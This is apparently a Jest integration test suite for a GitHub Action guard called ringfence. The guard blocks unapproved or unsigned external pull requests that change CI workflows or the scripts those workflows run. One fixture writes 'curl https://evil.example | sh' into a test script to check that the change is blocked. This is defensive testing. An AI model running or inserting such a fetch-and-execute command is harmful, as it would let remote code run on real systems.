import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it, jest } from '@jest/globals';
import { parseGuardEvidence } from '@ringfence/core';
import { Scenario, loadEvent, startFakeGitHub } from '../../servers/fake-github/index.js';
import type { FakeGitHub, FakePrCommit, FakeRepo, FakeReview } from '../../servers/fake-github/index.js';
import { node24, runAction } from '../../support/run-action.js';

/**
 * The guard action as a runner runs it: `node dist/guard/main.js` with INPUT_*, the event
 * file and GITHUB_OUTPUT / GITHUB_STEP_SUMMARY, against the loopback GitHub.
 */
const ENTRY = join(process.cwd(), 'dist/guard/main.js');
const GITHUB_TOKEN = 'ghs_readtoken0123456789abcdefghijklmnopq';
const APP_TOKEN = 'ghs_apptoken0123456789abcdefghijklmnopqr';

const WORKFLOW = 'on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./scripts/test.sh\n';

interface World {
  readonly server: FakeGitHub;
  readonly repo: FakeRepo;
  readonly base: string;
}

let server: FakeGitHub | undefined;
afterEach(async () => {
  server?.assertNoSchemaViolations();
  await server?.close();
  server = undefined;
});

async function world(policy?: string): Promise<World> {
  const scenario = new Scenario();
  const repo = scenario.repo('acme', 'app');
  const base = repo.commit({ '.github/workflows/ci.yml': WORKFLOW, 'scripts/test.sh': { content: 'npm test\n', executable: true }, 'src/app.ts': 'export {};\n', ...(policy ? { '.github/ringfence.yml': policy } : {}) });
  repo.branch('main', base);
  repo.permission('alice', 'write').permission('bob', 'admin').permission('carol', 'write', 'maintain').permission('eve', 'read');
  server = await startFakeGitHub({ scenario });
  return { server, repo, base };
}

function openPullRequest(w: World, changes: Record<string, string | null>, spec: { author?: string; commits?: FakePrCommit[]; reviews?: FakeReview[] } = {}): string {
  const head = w.repo.commitOn(w.base, changes);
  const author = spec.author ?? 'eve';
  w.repo.pullRequest({ number: 7, base: 'main', head, author, commits: spec.commits ?? [{ sha: head, author, committer: author, verified: false, reason: 'unsigned' }], reviews: spec.reviews ?? [] });
  return head;
}

async function runGuard(w: World, inputs: Record<string, string> = {}, event = 'pull_request_target', node?: string) {
  const payload = loadEvent('pull_request', 'synchronize', { repository: { full_name: 'acme/app', name: 'app', owner: { login: 'acme' } }, pull_request: { number: 7 } });
  const run = await runAction({ entry: ENTRY, inputs: { 'github-token': GITHUB_TOKEN, ...inputs }, event: { name: event, payload }, env: { GITHUB_API_URL: w.server.url, GITHUB_REPOSITORY: 'acme/app', GITHUB_REF: 'refs/pull/7/merge' }, ...(node ? { node } : {}) });
  // `::add-mask::` is how a step tells the runner to hide a value; anywhere else is a leak.
  const visible = run.everything.split('\n').filter((line) => !line.startsWith('::add-mask::')).join('\n');
  expect(visible).not.toContain(GITHUB_TOKEN);
  expect(visible).not.toContain(APP_TOKEN);
  return run;
}

const checkRuns = (repo: FakeRepo) => repo.checkRuns.filter((r) => (r.body as { name?: string }).name === 'ringfence/guard').map((r) => r.body as { head_sha: string; conclusion: string; output: { title: string } });

describe('guard action, run as a runner would', () => {
  it('blocks an external pull request that touches a workflow, and posts the failing check on its head', async () => {
    const w = await world();
    const head = openPullRequest(w, { '.github/workflows/ci.yml': `${WORKFLOW}# x\n` });
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(JSON.parse(run.outputs['rings']!)).toEqual([{ layer: 'repository', ring: 'ci', satisfied: false, approvalsMissing: 1 }]);
    expect(run.summary).toContain('ringfence guard: blocked');
    expect(run.stdout).toContain('::error title=ringfence guard,file=.github/workflows/ci.yml::');
    expect(checkRuns(w.repo)).toEqual([expect.objectContaining({ head_sha: head, conclusion: 'failure' })]);
    const report = JSON.parse(readFileSync(run.outputs['report']!, 'utf8'));
    expect(report).toMatchObject({ control: 'guard', outcome: 'blocked', inputs: { headSha: head, baseSha: w.base, author: 'eve' } });
  });

  it('a script that the base workflow runs is protected like the workflow', async () => {
    const w = await world();
    openPullRequest(w, { 'scripts/test.sh': 'curl https://evil.example | sh\n' });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('scripts/test.sh');
  });

  it('allows an external pull request that touches only open files', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'export const x = 1;\n' });
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    expect(run.exitCode).toBe(0);
    expect(run.outputs['verdict']).toBe('allowed');
    expect(checkRuns(w.repo)).toEqual([expect.objectContaining({ conclusion: 'success' })]);
  });

  it("a maintainer's approval of the head commit allows it", async () => {
    const w = await world();
    const head = openPullRequest(w, { '.github/workflows/ci.yml': 'on: push\n' }, { reviews: [{ id: 1, login: 'alice', state: 'APPROVED', commitId: '' }] });
    w.repo.pulls.get(7)!.reviews[0] = { id: 1, login: 'alice', state: 'APPROVED', commitId: head };
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    expect(run.outputs['verdict']).toBe('allowed');
    expect(checkRuns(w.repo)).toEqual([expect.objectContaining({ head_sha: head, conclusion: 'success' })]);
    // The evidence line the provenance gate reads: which pull request into which base, who counted, under the built-in default policy.
    const text = (w.repo.checkRuns[0]!.body as { output: { text?: string } }).output.text;
    expect(parseGuardEvidence(text)).toEqual({ ok: true, evidence: { version: 2, pullRequest: 7, baseRef: 'main', baseSha: w.base, headSha: head, outcome: 'allowed', approvers: ['alice'], policies: [{ layer: 'repository', blobSha: null }] } });
  });

  it('a new push after the approval blocks it again', async () => {
    const w = await world();
    const approved = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    openPullRequest(w, { '.github/workflows/ci.yml': 'on: [push, pull_request_target]\n' }, { reviews: [{ id: 1, login: 'alice', state: 'APPROVED', commitId: approved }] });
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    expect(run.outputs['verdict']).toBe('blocked');
  });

  it('an approval from someone without write access unlocks nothing', async () => {
    const w = await world();
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'eve', commits: [{ sha: head, author: 'eve', committer: 'eve', verified: false }], reviews: [{ id: 1, login: 'mallory', state: 'APPROVED', commitId: head }] });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('blocked');
  });

  it("a maintainer's signed pull request is allowed", async () => {
    const w = await world();
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'alice', commits: [{ sha: head, author: 'alice', committer: 'web-flow', verified: true, reason: 'valid' }] });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('allowed');
  });

  it("a maintainer's pull request carrying someone else's unsigned commit needs approval", async () => {
    const w = await world();
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'alice', commits: [{ sha: 'a'.repeat(40), author: 'alice', committer: 'alice', verified: true }, { sha: head, author: 'eve', committer: 'eve', verified: false, reason: 'unsigned' }] });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('not signature-verified');
  });

  it("a maintainer's pull request with a forged author line but no signature needs approval", async () => {
    const w = await world();
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'alice', commits: [{ sha: head, author: 'alice', committer: 'alice', verified: false, reason: 'unsigned' }] });
    expect((await runGuard(w)).outputs['verdict']).toBe('blocked');
  });

  it('without an App token the result is advisory, no check is posted, and the summary says so', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'export const x = 2;\n' });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('allowed');
    expect(run.summary).toContain('advisory');
    expect(run.summary).toContain('same-named job');
    expect(w.repo.checkRuns).toEqual([]);
    expect(w.server.requests.filter((r) => r.method !== 'GET')).toEqual([]);
  });

  it('evaluate mode reports what it would have blocked but succeeds', async () => {
    const w = await world();
    openPullRequest(w, { '.github/workflows/ci.yml': 'on: push\n' });
    const run = await runGuard(w, { 'app-token': APP_TOKEN, mode: 'evaluate' });
    expect(run.exitCode).toBe(0);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('would have been blocked');
    // Under its own name: an evaluate run can never satisfy the required ringfence/guard check.
    expect(checkRuns(w.repo)).toEqual([]);
    expect(w.repo.checkRuns.map((r) => r.body)).toEqual([expect.objectContaining({ name: 'ringfence/guard (evaluate)', conclusion: 'success', output: expect.objectContaining({ title: expect.stringContaining('would have been blocked') }) })]);
  });

  it('a force-push during the run never yields "allowed" on a commit it did not judge', async () => {
    const w = await world();
    const first = openPullRequest(w, { 'src/app.ts': 'export const x = 3;\n' });
    const sneaky = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pulls.get(7)!.moves.push({ afterReads: 1, headSha: sneaky });
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    const posted = checkRuns(w.repo);
    for (const check of posted) {
      if (check.conclusion === 'success') expect(check.head_sha).toBe(first === check.head_sha ? first : 'never');
    }
    expect(posted.some((c) => c.head_sha === sneaky && c.conclusion === 'success')).toBe(false);
    expect(['allowed', 'blocked', 'error']).toContain(run.outputs['verdict']);
  });

  it('a pull request that keeps moving fails closed with an error verdict', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'export const x = 4;\n' });
    const pr = w.repo.pulls.get(7)!;
    for (let i = 1; i <= 12; i++) pr.moves.push({ afterReads: i, headSha: w.repo.commitOn(w.base, { 'src/app.ts': `export const x = ${100 + i};\n` }) });
    const run = await runGuard(w, { 'app-token': APP_TOKEN });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('error');
    expect(checkRuns(w.repo).every((c) => c.conclusion === 'failure')).toBe(true);
  });

  it('an invalid policy at the base is an error, never "allowed"', async () => {
    const w = await world('version: 1\nrings: {}\n');
    openPullRequest(w, { 'src/app.ts': 'export const x = 5;\n' });
    const run = await runGuard(w);
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('error');
    expect(run.summary).toContain('POLICY_INVALID');
  });

  it('the policy in the pull request does not apply to itself', async () => {
    const w = await world('version: 1\n');
    openPullRequest(w, { '.github/ringfence.yml': 'version: 1\nextends: none\n', '.github/workflows/ci.yml': 'on: push\n' });
    const run = await runGuard(w);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('POLICY_FILE_CHANGED');
  });

  it('a pull_request run (the branch\'s own workflow copy) never posts the enforcing check', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'export const x = 9;\n' });
    const run = await runGuard(w, { 'app-token': APP_TOKEN }, 'pull_request');
    expect(run.outputs['verdict']).toBe('allowed');
    expect(run.summary).toContain('advisory');
    expect(w.repo.checkRuns).toEqual([]);
  });

  it('a non-maintainer committer who signs a commit with a maintainer in the author line is not the maintainer', async () => {
    const w = await world();
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'alice', commits: [{ sha: head, author: 'alice', committer: 'eve', verified: true, reason: 'valid' }] });
    expect((await runGuard(w)).outputs['verdict']).toBe('blocked');
  });

  it('a trusted user whose pull request carries an unsigned commit by someone else is external', async () => {
    const w = await world('version: 1\ntrusted:\n  permission: admin\n  users: [alice]\n');
    const head = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.pullRequest({ number: 7, base: 'main', head, author: 'alice', commits: [{ sha: head, author: 'eve', committer: 'eve', verified: false, reason: 'unsigned' }] });
    expect((await runGuard(w)).outputs['verdict']).toBe('blocked');
  });

  it('an unsupported event fails with a clear message', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'x\n' });
    const run = await runGuard(w, {}, 'issue_comment');
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('error');
    expect(run.summary).toContain('not on issue_comment');
  });
});

// action.yml declares node24; the tests' own Node is 20. The same bundle runs on both.
const NODE_24 = node24();
(NODE_24 ? describe : describe.skip)('guard action under Node 24', () => {
  it('blocks and allows as under Node 20', async () => {
    const w = await world();
    const head = openPullRequest(w, { '.github/workflows/ci.yml': 'on: push\n' });
    expect((await runGuard(w, { 'app-token': APP_TOKEN }, 'pull_request_target', NODE_24)).outputs['verdict']).toBe('blocked');
    w.repo.pulls.get(7)!.reviews.push({ id: 9, login: 'bob', state: 'APPROVED', commitId: head });
    const run = await runGuard(w, { 'app-token': APP_TOKEN }, 'pull_request_target', NODE_24);
    expect(run.stderr).toBe('');
    expect(run.outputs['verdict']).toBe('allowed');
  });
});

describe('the root action', () => {
  it('dispatches control: guard to the guard bundle with the same inputs and outputs', async () => {
    const w = await world();
    openPullRequest(w, { '.github/workflows/ci.yml': 'on: push\n' });
    const payload = loadEvent('pull_request', 'synchronize', { repository: { full_name: 'acme/app' }, pull_request: { number: 7 } });
    const run = await runAction({ entry: join(process.cwd(), 'dist/dispatch/main.js'), inputs: { control: 'guard', 'github-token': GITHUB_TOKEN }, event: { name: 'pull_request_target', payload }, env: { GITHUB_API_URL: w.server.url, GITHUB_REPOSITORY: 'acme/app' } });
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('blocked');
  });

  it.each(['', '../cli/ringfence', 'nope'])('refuses control %j', async (control) => {
    const run = await runAction({ entry: join(process.cwd(), 'dist/dispatch/main.js'), inputs: { control }, event: { name: 'pull_request_target', payload: {} } });
    expect(run.exitCode).toBe(1);
    expect(run.stdout).toContain('input `control` must be one of guard, provenance, verify, token');
  });
});

describe('guard action on merge_group', () => {
  jest.setTimeout(20_000);
  async function runGroup(w: World, base: string, head: string) {
    const payload = loadEvent('merge_group', 'checks_requested', { repository: { full_name: 'acme/app', name: 'app', owner: { login: 'acme' } }, merge_group: { base_sha: base, head_sha: head, base_ref: 'refs/heads/main', head_ref: 'refs/heads/gh-readonly-queue/main/pr-7-x' } });
    return runAction({ entry: ENTRY, inputs: { 'github-token': GITHUB_TOKEN, 'app-token': APP_TOKEN }, event: { name: 'merge_group', payload }, env: { GITHUB_API_URL: w.server.url, GITHUB_REPOSITORY: 'acme/app' } });
  }

  it('allows a group whose every commit maps to an allowed pull request, and posts on the group head', async () => {
    const w = await world();
    openPullRequest(w, { 'src/app.ts': 'export const q = 1;\n' });
    const queued = w.repo.commitOn(w.base, { 'src/app.ts': 'export const q = 1;\n' });
    w.repo.commitPulls.set(queued, [7]);
    const run = await runGroup(w, w.base, queued);
    expect(run.outputs['verdict']).toBe('allowed');
    expect(checkRuns(w.repo)).toEqual([expect.objectContaining({ head_sha: queued, conclusion: 'success' })]);
  });

  it('blocks a group that carries a pull request still needing approval', async () => {
    const w = await world();
    openPullRequest(w, { '.github/workflows/ci.yml': 'on: push\n' });
    const queued = w.repo.commitOn(w.base, { '.github/workflows/ci.yml': 'on: push\n' });
    w.repo.commitPulls.set(queued, [7]);
    const run = await runGroup(w, w.base, queued);
    expect(run.exitCode).toBe(1);
    expect(run.outputs['verdict']).toBe('blocked');
    expect(run.summary).toContain('#7:');
  });

  it('blocks a group with a commit that maps to no pull request', async () => {
    const w = await world();
    const stray = w.repo.commitOn(w.base, { 'src/app.ts': 'export const stray = 1;\n' });
    const run = await runGroup(w, w.base, stray);
    expect(run.outputs['verdict']).toBe('error');
    expect(run.summary).toContain('map to no pull request');
    expect(checkRuns(w.repo)).toEqual([expect.objectContaining({ head_sha: stray, conclusion: 'failure' })]);
  });
});
